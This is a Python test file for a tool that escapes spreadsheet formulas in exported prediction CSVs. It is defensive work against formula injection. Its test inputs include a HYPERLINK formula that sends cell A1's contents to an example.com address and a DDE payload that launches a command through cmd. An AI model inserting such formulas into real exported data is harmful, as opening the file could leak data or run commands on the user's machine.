"""What a spreadsheet would evaluate is written as text into CSV files of predictions."""

from pathlib import Path

import pandas as pd
import pytest

from mtl_nas.cli import main
from mtl_nas.exports.formulas import without_formulas

FILES = Path(__file__).parents[1] / "fixtures" / "0.1.0"
LINK = '=HYPERLINK("http://example.com?"&A1, "open")'


@pytest.mark.parametrize("text", [LINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "+49 151 7"])
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    table, count = without_formulas(pd.DataFrame({"id": [text]}))
    assert (table["id"][0], count) == (f"'{text}", 1)


@pytest.mark.parametrize("text", ["a=1", "-5", "+1.5e3", "-1,234.50", "-12 %", "-", "=", ""])
def test_texts_and_numbers_stay(text: str) -> None:
    table, count = without_formulas(pd.DataFrame({"id": [text, "x"], "score": [-0.5, 1.0]}))
    assert table["id"].tolist() == [text, "x"]
    assert table["score"].tolist() == [-0.5, 1.0]
    assert count == 0


def test_names_of_columns_are_texts_too() -> None:
    table, count = without_formulas(pd.DataFrame({"=1+1": [1], "b": [2]}))
    assert (list(table), count) == (["'=1+1", "b"], 1)


CASES = [(".csv", False), (".tsv", False), (".csv", True), (".parquet", False)]


@pytest.mark.parametrize(("suffix", "verbatim"), CASES)
def test_predict_says_what_it_changed(tmp_path, monkeypatch, capsys, suffix, verbatim) -> None:

    rows, out = tmp_path / "rows.csv", tmp_path / f"scores{suffix}"
    pd.read_csv(FILES / "visits.csv").head(3).assign(who=[LINK, "ann", "-5"]).to_csv(rows, index=False)
    words = ["mtl-search", "predict", FILES / "model", rows, "--to", out, "--keep", "who", *["--verbatim"] * verbatim]
    monkeypatch.setattr("sys.argv", list(map(str, words)))
    with pytest.raises(SystemExit, match="0"):
        main()
    table = pd.read_parquet(out) if suffix == ".parquet" else pd.read_csv(out, sep="\t" if suffix == ".tsv" else ",")
    escaped = suffix != ".parquet" and not verbatim
    assert table["who"].tolist() == ["'" * escaped + LINK, "ann", "-5"]
    assert ("1 texts that a spreadsheet would evaluate" in capsys.readouterr().err) == escaped
